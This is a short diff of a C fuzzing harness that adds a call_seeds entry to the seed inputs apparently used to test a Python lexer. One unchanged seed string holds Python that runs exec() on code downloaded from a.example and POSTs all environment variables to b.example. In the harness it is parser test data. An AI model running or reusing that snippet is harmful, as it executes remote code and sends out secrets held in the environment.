@@ -23,6 +23,7 @@ void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 {
 	seed(run, "x = '\x85\x86\x87\x88\x89\x8a\x8b'\nprint(x)\n"); /* text by its name only */
 	literal_seeds("", "read/test_py.c read/test_py_fold.c read/test_py_kinds.c read/test_pylex.c", run);
+	call_seeds("py", run);
 	seed(run, "import os as o, base64\nfrom urllib import request as r\nexec(r.urlopen('https://a.example/x').read())\n"
 		  "r.urlopen(r.Request('https://b.example', data=str(dict(o.environ)).encode()))\n");
 	seed(run, "class A(B, metaclass=C):\n    x = 1\n    def __init__(self, a, *b, c=2, **d):\n        self.a = [i for j in b if j for i in j]\n"
